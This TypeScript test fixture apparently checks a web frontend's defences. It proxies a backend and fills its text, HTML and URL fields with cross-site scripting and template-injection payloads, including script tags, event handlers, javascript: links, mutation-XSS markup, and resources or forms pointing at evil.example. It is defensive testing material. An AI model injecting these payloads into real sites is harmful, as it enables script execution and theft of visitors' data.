import { request } from "node:http";
import { startService } from "#tests/fixtures/service";

const place = "$".concat("{window.hacked=1}");

/** What an attacker writes into a field that is text: markup, handlers, and what template engines would run. */
export const hostileText =
  `<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><svg onload=window.hacked=1>` +
  `{{constructor.constructor('window.hacked=1')()}}${place}<%= hacked %>'"--></title></textarea></script>`;

/** What an attacker writes into a field that is HTML. */
const hostileHtml = [
  "<script>window.hacked=1</script><scr<script>ipt>window.hacked=1</scr</script>ipt>",
  '<img src="x" onerror="window.hacked=1"><img src="https://evil.example/pixel.gif"><img src="//evil.example/pixel.gif">',
  '<a href="javascript:window.hacked=1">un</a><a href="java&#10;script:window.hacked=1">deux</a>',
  '<a href="data:text/html,<script>window.hacked=1</script>">trois</a><a href="vbscript:x" onclick="window.hacked=1">quatre</a>',
  '<a href="/fr/contact" target="_blank" style="position:fixed;inset:0" onmouseover="window.hacked=1">cinq</a>',
  '<svg onload="window.hacked=1"><script>window.hacked=1</script><a xlink:href="javascript:window.hacked=1">six</a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;"></mtext></math>',
  '<iframe src="https://evil.example" srcdoc="<script>parent.hacked=1</script>"></iframe><object data="x"></object><embed src="x">',
  "<style>*{display:none!important}@import url(https://evil.example/x.css)</style><link rel=stylesheet href=https://evil.example>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">sept</p><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input name=p><button>huit</button></form>',
  "<details open ontoggle=window.hacked=1><summary>neuf</summary></details><video><source onerror=window.hacked=1></video>",
  `<table width="1800"><tr>${"<td>une cellule, colonne par colonne</td>".repeat(40)}</tr></table><img src="uploads/photo.jpg">`,
  `{{constructor.constructor('window.hacked=1')()}} ${place} <b>gras <i>jamais fermé <div><table><td`,
].join("\n");

const htmlFields = new Set(["body", "description"]);
const textFields = new Set(
  "title subTitle subtitle summary caption name address label help detail message reference excerpt fileName folder zone workload start place".split(
    " ",
  ),
);
/** Fields that end up in addresses. */
const addressFields: Record<string, string> = {
  slug: `"><script>window.hacked=1</script>`,
  page: "javascript:window.hacked=1",
  url: "javascript:window.hacked=1",
};

/** The name of the terms, and those of about half of the pictures: they stay, so that the texts found by them are shown. */
const keptNames = /^terms$|[0-7]-\d+$/;

function poisoned(value: unknown, key = ""): unknown {
  if (Array.isArray(value)) return value.map((item) => poisoned(item, key));
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poisoned(item, name)]));
  }
  if (typeof value !== "string") return value;
  if (htmlFields.has(key)) return `${hostileHtml}${value}`;
  if (key in addressFields && !keptNames.test(value)) return addressFields[key];
  return textFields.has(key) ? `${value} ${hostileText}` : value;
}

/** The services of a running backend, with every text, every address and half of the pictures replaced by an attack. */
export function startHostileService(backend: string) {
  return startService((message, reply) => {
    const url = new URL(message.url ?? "/", backend);
    const asked = request(url, { method: message.method, headers: { ...message.headers, host: url.host } }, (got) => {
      const parts: Buffer[] = [];
      got.on("data", (part: Buffer) => parts.push(part));
      got.on("end", () => {
        const body = Buffer.concat(parts);
        const json = got.headers["content-type"]?.startsWith("application/json") && got.statusCode === 200;
        const sent = json ? Buffer.from(JSON.stringify(poisoned(JSON.parse(body.toString())))) : body;
        const { "content-length": _, "transfer-encoding": __, ...headers } = got.headers;
        reply.writeHead(got.statusCode ?? 502, { ...headers, "content-length": sent.length }).end(sent);
      });
    });
    asked.on("error", () => reply.destroy());
    message.pipe(asked);
  });
}
